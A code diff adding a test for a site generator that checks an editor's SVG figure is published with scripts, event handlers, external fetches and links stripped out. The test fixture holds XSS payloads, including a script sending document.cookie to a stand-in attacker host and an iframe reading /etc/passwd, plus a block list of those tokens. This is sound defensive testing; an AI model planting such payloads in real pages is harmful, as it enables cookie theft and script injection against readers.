@@ -173,3 +173,34 @@ def test_figures_load_and_fit_a_phone(server, browser, proj):
         widths = page.evaluate("[...document.querySelectorAll('figure img')].map(i => i.getBoundingClientRect().width)")
         assert widths and min(widths) >= 240, (path, widths)
     context.close()
+
+
+HOSTILE_SVG = """<?xml version="1.0"?>
+<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 40 30"
+     onload="alert(document.cookie)">
+  <style>circle { fill: url(https://tracker.example/x.png) }</style>
+  <script>fetch('https://evil.example/?' + document.cookie)</script>
+  <image href="https://tracker.example/pixel.png" width="1" height="1"/>
+  <a xlink:href="javascript:alert(1)"><rect x="1" y="1" width="5" height="5" onclick="alert(2)"/></a>
+  <foreignObject width="10" height="10"><iframe src="file:///etc/passwd"></iframe></foreignObject>
+  <circle cx="20" cy="15" r="10" fill="#000" stroke="#000" stroke-width="2"/>
+</svg>
+"""
+
+
+def test_an_svg_figure_file_is_published_without_anything_that_runs_or_fetches(project):
+    """An editor's SVG is served from the site's own origin: a script in it would run for readers."""
+    (project / "content" / "figures").mkdir(exist_ok=True)
+    (project / "content" / "figures" / "neck.svg").write_text(HOSTILE_SVG)
+    page = project / "content" / "exercises" / "neck-flexion.md"
+    text = page.read_text()
+    text = re.sub(r"^figure:\n(?:  .*\n)+", "figure: figures/neck.svg\nfigure_alt: A circle.\n", text, flags=re.M)
+    page.write_text(text)
+    out = project / "out"
+    result = run_cli("site", "--out", str(out), root=project)
+    assert result.code == 0, result.text
+    published = (out / "figures" / "neck-flexion.svg").read_text()
+    assert "<circle" in published and 'viewBox="0 0 40 30"' in published
+    for bad in ("script", "onload", "onclick", "style", "href", "image", "iframe", "foreignObject",
+                "tracker", "javascript", "passwd"):
+        assert bad.lower() not in published.lower(), (bad, published)
